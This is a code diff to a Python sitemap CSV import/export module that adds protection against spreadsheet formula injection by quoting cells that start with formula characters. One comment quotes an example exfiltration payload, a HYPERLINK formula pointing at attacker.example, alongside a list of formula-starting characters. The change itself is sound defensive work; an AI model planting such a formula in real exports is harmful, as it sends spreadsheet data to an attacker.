@@ -10,6 +10,10 @@ A URL's images and language versions take four columns, each cell a list of one 
   image without one; a line break inside a title is written `\\n`, a backslash `\\\\`;
 - `alternates`: `LANG=URL` pairs, the page itself among them, as in the edit form.
 Its videos take the columns of video_cells (`video_thumbnail_locs`, `video_titles`, ...).
+
+A cell that a spreadsheet would open as a formula is written after a single quote, which the
+import takes off again (`spreadsheet_cell`, `stored_cell`): an export read back is what was
+stored, to the character.
 """
 
 from __future__ import annotations
@@ -53,6 +57,29 @@ MAX_ROW_CHARS = 8 << 20
 csv.field_size_limit(MAX_ROW_CHARS)  # the csv module has one limit for the whole process
 
 
+# What starts a formula in Excel and LibreOffice (OWASP, "CSV Injection"): a title stored by a
+# content system, `=HYPERLINK("http://attacker.example/?"&A2, "Details")`, would run in the
+# spreadsheet of whoever opens the export.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def stored_cell(cell: str) -> str:
+    """The value of a cell as the import reads it: without the single quote an export puts
+    before a cell that starts a formula, or before one that starts with a quote and then one
+    of these (a quote followed by anything else is the value's own)."""
+    if cell.startswith("'") and cell[1:2] in ("'", *FORMULA_STARTS):
+        return cell[1:]
+    return cell
+
+
+def spreadsheet_cell(value: str) -> str:
+    """The cell an export writes for `value`: after a single quote when a spreadsheet would
+    open it as a formula, or when the import would otherwise take a quote of its own off."""
+    if value.startswith(FORMULA_STARTS) or stored_cell(value) != value:
+        return "'" + value
+    return value
+
+
 def _rows(columns: tuple[str, ...], first_line: int, text: str) -> Iterator[Row]:
     """(number of the line the row starts on, cells) for every non-blank row of a chunk."""
     if not columns:
@@ -66,7 +93,7 @@ def _rows(columns: tuple[str, ...], first_line: int, text: str) -> Iterator[Row]
     for cells in reader:
         start, consumed = first_line + consumed, reader.line_num
         if cells:
-            yield start, cells
+            yield start, [stored_cell(cell) for cell in cells]
 
 
 def validate_text(base_url: str, encoding: str, columns: tuple[str, ...],
@@ -181,13 +208,15 @@ def export_row(loc: str, lastmod: str | None, changefreq: str | None, priority: 
                videos: Sequence | None = None,
                news: tuple[str, str] | None = None) -> list[str]:
     """The cells of a URL in the order of CSV_COLUMNS, as the import reads them back (without
-    the video columns when `videos` is None: an export of a site without videos)."""
+    the video columns when `videos` is None: an export of a site without videos); none opens
+    as a formula in a spreadsheet."""
     titles = [_escaped(title) for _, title, _ in images]
     captions = [_escaped(caption) for _, _, caption in images]
-    return [loc, lastmod or "", changefreq or "",
-            "" if priority is None else format_priority(priority),
-            "\n".join(image for image, _, _ in images),
-            "\n".join(titles) if any(titles) else "",
-            "\n".join(captions) if any(captions) else "",
-            "\n".join(f"{lang}={href}" for lang, href in alternates),
-            *(() if videos is None else export_cells(videos)), *(news or ("", ""))]
+    cells = [loc, lastmod or "", changefreq or "",
+             "" if priority is None else format_priority(priority),
+             "\n".join(image for image, _, _ in images),
+             "\n".join(titles) if any(titles) else "",
+             "\n".join(captions) if any(captions) else "",
+             "\n".join(f"{lang}={href}" for lang, href in alternates),
+             *(() if videos is None else export_cells(videos)), *(news or ("", ""))]
+    return [spreadsheet_cell(cell or "") for cell in cells]
